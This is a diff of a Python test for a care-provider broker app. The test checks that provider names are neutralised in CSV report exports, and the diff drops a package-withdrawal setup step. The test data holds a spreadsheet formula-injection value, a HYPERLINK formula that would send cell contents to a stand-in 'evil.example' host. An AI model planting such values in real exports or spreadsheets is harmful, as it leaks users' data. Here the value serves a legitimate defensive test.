@@ -117,8 +117,7 @@ async def test_a_provider_cannot_declare_availability_without_end(world: World) 
 async def test_a_provider_name_is_never_a_formula_in_a_report_spreadsheet(world: World) -> None:
     name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
     provider = await world.broker("POST", "/api/providers", provider_body(name, email="evil@providers.test"), expect=201)
-    matched = await world.post()  # matches it; closed, so its silence counts in the response-rate figures
-    await world.broker("POST", f"/api/packages/{matched['id']}/withdraw", {"reason": "Family arranged care"}, expect=200)
+    await world.post()  # matches it, so it is in the response-rate figures
     response = await world.broker.raw("GET", "/api/reports/summary", params={"format": "csv"})
     assert response.status_code == 200
     rows = list(csv.reader(io.StringIO(response.text)))
